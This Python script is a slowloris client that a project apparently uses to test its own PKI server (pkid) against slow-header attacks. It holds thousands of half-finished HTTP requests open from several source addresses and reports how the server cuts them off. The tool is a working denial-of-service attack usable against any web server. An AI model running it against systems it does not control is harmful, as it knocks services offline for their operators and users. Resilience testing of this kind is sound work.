#!/usr/bin/env python3
"""Slow HTTP clients for check-ca-slow and bench-attack (issue 19 #2).

slowloris.py HOST PORT SOURCE CONNS INTERVAL DURATION [NSRC]

Keeps CONNS connections from each of NSRC source addresses (SOURCE,
SOURCE+1, ...; default one) open to HOST:PORT for DURATION seconds, or
until SIGTERM: each sends a request line, then one header line every
INTERVAL seconds, never the blank line that ends the head.  A connection
the server closes is opened again (once a second at most).  Prints one
line of figures:

  opened=N closed_by_server=N longest_s=F longest_cut_s=F max_open=N max_total=N max_lag_s=F no_port=N

longest_s is the longest time a connection was seen open (all of them
must be cut by the request deadline); longest_cut_s the longest life of a
connection that lasted over one INTERVAL and then was closed by the
server; max_open the most connections one address had open at once, for
over a second, connected (its request line sent: not a SYN the XDP guard
dropped); max_total the same for all addresses together (what pkid holds
plus what waits in its listen backlog); max_lag_s the longest
pass of its loop (a close is seen at most that late: with thousands of
connections on a loaded machine, not negligible); no_port the sockets it
could not bind for want of a local port.
"""
import ipaddress
import resource
import selectors
import signal
import socket
import sys
import time


def main():
    host, port, source = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    conns, interval, duration = int(sys.argv[4]), float(sys.argv[5]), float(sys.argv[6])
    nsrc = int(sys.argv[7]) if len(sys.argv) > 7 else 1
    sources = [str(ipaddress.ip_address(source) + i) for i in range(nsrc)]
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    sel = selectors.DefaultSelector()
    live = {}  # socket -> [opened at, last header at, source]
    per_src = {src: 0 for src in sources}
    opened = closed = max_open = max_total = no_port = 0
    longest = longest_cut = max_lag = 0.0
    end = time.monotonic() + duration
    last_fill = 0.0

    def stop(*_):
        nonlocal end
        end = 0.0

    signal.signal(signal.SIGTERM, stop)

    def connect(src):
        nonlocal opened, no_port
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        try:
            s.bind((src, 0))
        except OSError as e:  # no local port left: try again next second
            s.close()
            no_port += 1
            if no_port == 1:
                print("slowloris.py: bind %s: %s (after %d opened)"
                      % (src, e.strerror, opened), file=sys.stderr)
            return False
        try:
            s.connect((host, port))
        except BlockingIOError:
            pass
        except OSError:  # refused at once: counted as opened and closed
            pass
        now = time.monotonic()
        live[s] = [now, now - interval, src]  # first header line at once
        per_src[src] += 1
        sel.register(s, selectors.EVENT_READ)
        opened += 1
        return True

    def drop(s, now):
        nonlocal closed, longest, longest_cut
        t0, _, src = live.pop(s)[:3]
        sel.unregister(s)
        s.close()
        per_src[src] -= 1
        closed += 1
        life = now - t0
        longest = max(longest, life)
        if life > interval:
            longest_cut = max(longest_cut, life)

    while time.monotonic() < end:
        top = time.monotonic()
        # Refill once a second: a refused connection is not retried in a
        # tight loop (the machine running the test has two cores).
        if time.monotonic() - last_fill >= 1.0:
            last_fill = time.monotonic()
            for src in sources:
                while per_src[src] < conns and time.monotonic() < end:
                    if not connect(src):
                        break
        now = time.monotonic()
        for s, st in list(live.items()):
            if now - st[1] >= interval:
                try:
                    if st[1] < st[0]:
                        s.send(b"GET /cgi-bin/pkiclient.exe?operation=GetCACert HTTP/1.1\r\n")
                        st.append(True)  # connected: its request line went out
                    else:
                        s.send(b"X-Slow: %d\r\n" % int(now))
                    st[1] = now
                except (BlockingIOError, InterruptedError):
                    pass
                except OSError:
                    pass
        # A readable socket here is a closed (or answered) one.
        events = sel.select(timeout=0.2)
        now = time.monotonic()
        for key, _ in events:
            s = key.fileobj
            try:
                data = s.recv(4096)
            except (BlockingIOError, InterruptedError):
                continue
            except OSError:
                data = b""
            if data:
                continue
            drop(s, now)
        held = {}
        for st in live.values():
            if len(st) > 3 and now - st[0] > 1.0:
                held[st[2]] = held.get(st[2], 0) + 1
        if held:
            max_open = max(max_open, max(held.values()))
            max_total = max(max_total, sum(held.values()))
        # A close is seen at most one pass after it happened.
        max_lag = max(max_lag, time.monotonic() - top)
    now = time.monotonic()
    for s, st in live.items():
        longest = max(longest, now - st[0])
        s.close()
    print("opened=%d closed_by_server=%d longest_s=%.1f longest_cut_s=%.1f max_open=%d max_total=%d max_lag_s=%.1f no_port=%d"
          % (opened, closed, longest, longest_cut, max_open, max_total, max_lag, no_port))


if __name__ == "__main__":
    main()
